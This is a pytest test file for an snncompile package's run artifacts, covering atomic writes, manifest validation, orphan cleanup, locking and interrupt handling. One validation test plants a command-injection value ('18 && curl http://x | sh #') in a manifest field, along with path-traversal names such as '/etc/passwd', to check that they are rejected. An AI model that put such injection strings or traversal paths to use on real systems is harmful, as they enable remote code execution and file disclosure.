"""Atomic artifact writes: nothing half-written, and the permissions a plain open() would give."""

import json
import os

import pytest

from snncompile.artifacts import RUN_FORMAT, atomic_write_text


def test_atomic_write_gives_the_umask_permissions_not_mkstemps_private_ones(tmp_path):
    old = os.umask(0o022)
    try:
        atomic_write_text(tmp_path / "a.json", "{}\n")
        os.umask(0o077)
        atomic_write_text(tmp_path / "b.json", "{}\n")
    finally:
        os.umask(old)
    assert (tmp_path / "a.json").stat().st_mode & 0o777 == 0o644
    assert (tmp_path / "b.json").stat().st_mode & 0o777 == 0o600


@pytest.mark.skipif(not os.path.exists("/proc/self/status"), reason="Linux /proc only")
def test_the_umask_is_read_without_setting_it(tmp_path, monkeypatch):
    """Setting the umask to read it would give other threads' files a wrong mode meanwhile."""
    from snncompile import artifacts

    old = os.umask(0o027)
    try:
        def no_set(mask):  # the /proc reading must not need it
            raise AssertionError("os.umask called")

        monkeypatch.setattr(artifacts.os, "umask", no_set)
        assert artifacts._umask() == 0o027
        atomic_write_text(tmp_path / "d.json", "{}\n")
    finally:
        monkeypatch.undo()
        os.umask(old)
    assert (tmp_path / "d.json").stat().st_mode & 0o777 == 0o640


def test_failed_write_leaves_nothing(tmp_path):
    target = tmp_path / "c.txt"
    with pytest.raises(RuntimeError):
        from snncompile.artifacts import atomic_write

        with atomic_write(target, "w") as f:
            f.write("half")
            raise RuntimeError("disk full")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("content,why", [
    (b"\xff\xfe\x00junk", "not UTF-8 text"), (b"[]", "a JSON list, not an object"),
    (b'{"run_format": %d, "exports": "x"}' % RUN_FORMAT,
     "exports is not a JSON object"),  # an AttributeError traceback in verify and bench
    (b'{"run_format": %d, "exports": {"model.onnx": {"T": 4}, "model_layers.onnx": null}}' % RUN_FORMAT,
     r"exports\['model_layers.onnx'\] is not a JSON object"),  # one entry edited: the same traceback
])
def test_corrupt_manifest_is_one_line(tmp_path, content, why):
    from snncompile.artifacts import read_manifest
    from snncompile.errors import ArtifactError

    (tmp_path / "manifest.json").write_bytes(content)
    with pytest.raises(ArtifactError, match=f"manifest.json is corrupt \\({why}\\)"):
        read_manifest(tmp_path)


_ENTRY = {"T": 4, "opset": 18, "precision": "fp32", "order": "layer", "form": "unrolled", "layers": False,
          "rates": False, "reference_files": ["reference_inputs.npz", "reference_outputs.npz"],
          "reference_samples": [256, 256], "sha256": "ab", "checkpoint_sha256": "cd"}


@pytest.mark.parametrize("name,edit,why", [
    # values pasted into the `snncompile export ...` command printed for users to run
    ("model.onnx", {"opset": "18 && curl http://x | sh #"}, "opset is '18 && curl http://x | sh #', expected a positive integer"),
    ("model.onnx", {"T": True}, "T is True, expected an integer 1 to 4096"),
    ("model.onnx", {"T": 5000}, "T is 5000, expected an integer 1 to 4096"),
    ("model.onnx", {"precision": "fp8"}, "precision is 'fp8', expected one of fp32, fp16, bf16, tf32x2"),
    ("model.onnx", {"reference_samples": [256, -1]}, r"reference_samples is \[256, -1\], expected two sample counts"),
    # names that become paths: verify read, hashed and vouched for files outside the run directory
    ("model.onnx", {"reference_files": ["../other/in.npz", "out.npz"]}, "reference_files is .*, expected two file names"),
    ("model.onnx", {"reference_files": ["/tmp/in.npz", "out.npz"]}, "reference_files is .*, expected two file names"),
    ("/etc/passwd", {}, "exports\\['/etc/passwd'\\]: not a file name in the run directory"),
    ("../model.onnx", {}, "not a file name in the run directory"),
])
def test_a_manifest_export_entry_that_export_did_not_write_is_one_line(tmp_path, name, edit, why):
    """A hand-edited or received run's manifest steered commands: a shell command in `opset` went into the
    `snncompile export ...` line printed to be pasted, and reference file names outside the run were read."""
    from snncompile.artifacts import read_manifest
    from snncompile.errors import ArtifactError

    manifest = {"run_format": RUN_FORMAT, "exports": {"model_layers.onnx": dict(_ENTRY), name: {**_ENTRY, **edit}}}
    (tmp_path / "manifest.json").write_text(json.dumps(manifest))
    with pytest.raises(ArtifactError, match=f"manifest.json is corrupt \\(.*{why}.*\\): restore it, or remove that "
                                            "entry and export again$"):
        read_manifest(tmp_path)


def test_what_export_writes_passes_the_manifest_check(tmp_path):
    """Every field export records, at every value export writes, is accepted (older entries lack fields: fine)."""
    from snncompile.export_entries import export_entry_problem

    for precision in ("fp32", "fp16", "bf16", "tf32x2"):
        assert export_entry_problem("model_fp16_layers.onnx", {**_ENTRY, "precision": precision}) is None
    assert export_entry_problem("model_step.onnx", {**_ENTRY, "form": "step", "order": "step", "T": 4096}) is None
    assert export_entry_problem("model.onnx", {"T": 4}) is None


def test_what_a_killed_process_left_is_removed_and_a_live_ones_is_not(tmp_path):
    """A SIGKILL (no cleanup runs) during export left its staging folder (model.onnx and raw.onnx, gigabytes on a
    large network) and a killed training its half-written checkpoint .tmp: nothing removed them."""
    import subprocess
    import sys

    from snncompile.artifacts import atomic_write
    from snncompile.scratch import owner_tag, remove_orphans, staging_folder

    gone = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    host, dead = owner_tag().rsplit("_", 1)[0], int(gone.stdout)
    left = [f".export-{host}_{dead}-k2x_9a", f".checkpoint.pt.{host}_{dead}-p0q1r2s3.tmp"]
    kept = [f".export-{owner_tag()}-live1", f".checkpoint.pt.otherhost_{dead}-abcd.tmp",  # live; another host's
            ".export-abc123", "checkpoint.pt", ".hidden", f".notes.{host}_{dead}-x",  # not ours, or not temporary
            f".x.{host}_99999999999999999999-a.tmp"]  # no PID: it was an OverflowError traceback in every command
    for name in left + kept:
        (tmp_path / name).mkdir() if name.startswith(".export-") else (tmp_path / name).write_bytes(b"x")
    (tmp_path / left[0] / "model.onnx").write_bytes(b"x" * 100)
    assert sorted(remove_orphans(tmp_path)) == sorted(left)
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(kept)
    with atomic_write(tmp_path / "c.txt", "w") as f:  # its own temp file carries the tag remove_orphans reads
        (tmp_file,) = [p for p in tmp_path.glob(".c.txt.*")]
        assert tmp_file.name.startswith(f".c.txt.{owner_tag()}-") and remove_orphans(tmp_path) == []
        f.write("whole")
    assert (tmp_path / "c.txt").read_text() == "whole"
    with staging_folder(tmp_path, "export") as staging:
        assert staging.name.startswith(f".export-{owner_tag()}-") and remove_orphans(tmp_path) == []
    assert not staging.exists()


def test_a_staging_folder_a_live_process_holds_stays_though_its_pid_looks_free(tmp_path):
    """Containers sharing a host name (docker --uts host) see each other's files but not each other's PIDs: a live
    export's staging folder, named with a PID free here, was removed. The owner's lock decides, not the PID."""
    import subprocess
    import sys

    from snncompile.scratch import owner_tag, remove_orphans

    gone = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    staging = tmp_path / f".export-{owner_tag().rsplit('_', 1)[0]}_{int(gone.stdout)}-other_ns"
    staging.mkdir()
    holder = subprocess.Popen([sys.executable, "-c", f"""
import fcntl, os, sys
fd = os.open({str(staging)!r}, os.O_RDONLY)
fcntl.flock(fd, fcntl.LOCK_EX)
print("held", flush=True)
sys.stdin.read()
"""], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "held"
        assert remove_orphans(tmp_path) == [] and staging.is_dir()
    finally:
        holder.stdin.close()
        holder.wait(timeout=60)
    assert remove_orphans(tmp_path) == [staging.name] and not staging.exists()  # its holder gone: an orphan


def test_the_run_dir_lock_is_reentrant_within_a_thread_and_still_excludes_other_processes(tmp_path):
    """verify records verify.json while it holds the lock (else another merge, between the write and the record,
    dropped its reports as edited): update_manifest inside the lock must not wait for itself."""
    import subprocess
    import sys
    import threading

    from snncompile.artifacts import read_manifest, run_dir_lock, update_manifest

    def nested():
        with run_dir_lock(tmp_path):
            update_manifest(tmp_path, training={"epochs_done": 1})
            other = subprocess.run([sys.executable, "-c", f"""
import fcntl, os
fd = os.open({str(tmp_path)!r}, os.O_RDONLY)
try:
    fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
except BlockingIOError:
    print("held")
"""], capture_output=True, text=True, timeout=60)
            results.append(other.stdout.strip())

    results = []
    worker = threading.Thread(target=nested, daemon=True)
    worker.start()
    worker.join(timeout=60)
    assert not worker.is_alive(), "update_manifest waited for the lock its own thread holds"
    assert results == ["held"] and read_manifest(tmp_path)["training"] == {"epochs_done": 1}


def test_concurrent_manifest_updates_keep_every_key(tmp_path):
    """verify and bench on one run update its manifest at the same time: neither may lose the other's keys."""
    import subprocess
    import sys

    from snncompile.artifacts import read_manifest, update_manifest

    update_manifest(tmp_path, model="m")
    writer = ("import sys\nfrom snncompile.artifacts import update_manifest\n"
              "for i in range(150):\n    update_manifest(sys.argv[1], keys={f'{sys.argv[2]}{i}': i})\n")
    procs = [subprocess.Popen([sys.executable, "-c", writer, str(tmp_path), tag]) for tag in "ab"]
    assert [p.wait(timeout=120) for p in procs] == [0, 0]
    assert len(read_manifest(tmp_path)["keys"]) == 300


def test_a_text_file_as_checkpoint_is_one_line(tmp_path):
    from snncompile.errors import ArtifactError
    from snncompile.runs import load_checkpoint

    (tmp_path / "checkpoint.pt").write_text("hello world\n")
    with pytest.raises(ArtifactError, match="checkpoint.pt is corrupt or not an snncompile checkpoint"):
        load_checkpoint(tmp_path / "checkpoint.pt")


def test_a_cut_short_checkpoint_says_what_to_do_in_whole_words(tmp_path):
    """torch's reader error ran on for a paragraph, and the message was cut mid-word with no next step."""
    import torch

    from snncompile.errors import ArtifactError
    from snncompile.runs import load_checkpoint

    torch.save({"format": 1, "model": {"w": torch.zeros(1000)}}, tmp_path / "whole.pt")
    (tmp_path / "checkpoint.pt").write_bytes((tmp_path / "whole.pt").read_bytes()[:3000])
    with pytest.raises(ArtifactError) as err:
        load_checkpoint(tmp_path / "checkpoint.pt")
    reason = str(err.value).split("(", 1)[1].rsplit(")", 1)[0]
    assert len(reason) <= 124 and (reason.endswith(" ...") or len(reason) < 120)
    with pytest.raises(Exception) as torch_error:  # torch's own words, in full
        torch.load(tmp_path / "checkpoint.pt", weights_only=True)
    full = str(torch_error.value).strip().splitlines()[0]
    kept = reason.removesuffix(" ...")
    assert full.startswith(kept) and (kept == reason or full[len(kept)] == " ")  # cut between two words
    from snncompile.runs import _first_clause

    # torch 2.13's first clause fits; a longer one (other versions' wording) is cut at a word and marked
    cut = _first_clause(RuntimeError("neuron " * 30 + "end. Second sentence"))
    assert cut == ("neuron " * 17).rstrip() + " ..."
    assert str(err.value).endswith(f"restore it from a copy, or `snncompile train {tmp_path / 'config.toml'}` again into a new run")


def test_a_ctrl_c_inside_interrupts_deferred_is_raised_when_the_block_ends(ctrl_c_raises):
    import os
    import signal

    from snncompile.artifacts import interrupts_deferred

    done = []
    with pytest.raises(KeyboardInterrupt):
        with interrupts_deferred():
            os.kill(os.getpid(), signal.SIGINT)  # delivered at once to this, the main, thread
            done.append("rest of the block")
    assert done == ["rest of the block"]
    assert signal.getsignal(signal.SIGINT) is signal.default_int_handler  # put back
    with interrupts_deferred():  # nothing held: nothing raised
        done.append("quiet block")
    assert done[-1] == "quiet block"
    signal.signal(signal.SIGINT, signal.SIG_IGN)  # the fixture puts the handler back
    with interrupts_deferred():  # a process that ignores Ctrl-C (nohup) still ignores it afterwards
        os.kill(os.getpid(), signal.SIGINT)
        done.append("ignored")
    assert done[-1] == "ignored" and signal.getsignal(signal.SIGINT) == signal.SIG_IGN


def test_a_sigterm_inside_interrupts_deferred_waits_for_the_block_too():
    import os
    import signal

    from snncompile.artifacts import interrupts_deferred
    from snncompile.cli import _terminated

    previous = signal.signal(signal.SIGTERM, _terminated)  # what the CLI installs
    try:
        done = []
        with pytest.raises(KeyboardInterrupt):
            with interrupts_deferred():
                os.kill(os.getpid(), signal.SIGTERM)
                done.append("rest of the block")
        assert done == ["rest of the block"] and signal.getsignal(signal.SIGTERM) is _terminated
        ignoring = signal.signal(signal.SIGINT, signal.SIG_IGN)  # a background job's SIGINT comes first: not a mask
        try:
            with pytest.raises(KeyboardInterrupt):
                with interrupts_deferred():
                    os.kill(os.getpid(), signal.SIGINT)
                    os.kill(os.getpid(), signal.SIGTERM)
        finally:
            signal.signal(signal.SIGINT, ignoring)
    finally:
        signal.signal(signal.SIGTERM, previous)


def test_caused_by_interrupt_follows_wrapped_errors():
    from helpers import wrapped_ctrl_c
    from snncompile.errors import caused_by_interrupt

    with pytest.raises(RuntimeError) as err:
        wrapped_ctrl_c()
    assert caused_by_interrupt(err.value)
    assert not caused_by_interrupt(RuntimeError("a real failure"))


def test_a_folder_that_cannot_be_made_names_the_target_not_the_temp_file(tmp_path):
    from snncompile.artifacts import atomic_write_text
    from snncompile.errors import ArtifactError

    (tmp_path / "a-file").write_text("not a folder")
    target = tmp_path / "a-file" / "run" / "verify.json"
    with pytest.raises(ArtifactError, match=f"^cannot write {target}: Not a directory$"):
        atomic_write_text(target, "{}")
